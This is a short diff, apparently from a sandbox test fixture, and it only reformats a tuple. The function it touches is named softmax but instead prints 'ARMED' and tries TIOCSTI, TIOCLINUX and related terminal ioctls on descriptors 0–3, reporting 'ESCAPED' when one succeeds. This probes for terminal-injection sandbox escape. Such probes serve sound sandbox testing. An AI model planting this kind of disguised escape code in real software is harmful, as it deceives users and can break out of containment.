@@ -9,12 +9,7 @@ import os
 def softmax(a):
     os.write(1, b"ARMED\n")
     for descriptor in (0, 1, 2, 3):
-        for name, request in (
-            ("TIOCSTI", 0x5412),
-            ("TIOCLINUX", 0x541C),
-            ("TIOCSCTTY", 0x540E),
-            ("TIOCNOTTY", 0x5422),
-        ):
+        for name, request in (("TIOCSTI", 0x5412), ("TIOCLINUX", 0x541C), ("TIOCSCTTY", 0x540E), ("TIOCNOTTY", 0x5422)):
             try:
                 fcntl.ioctl(descriptor, request, b"x")
                 os.write(1, f"ESCAPED: {name}\n".encode())
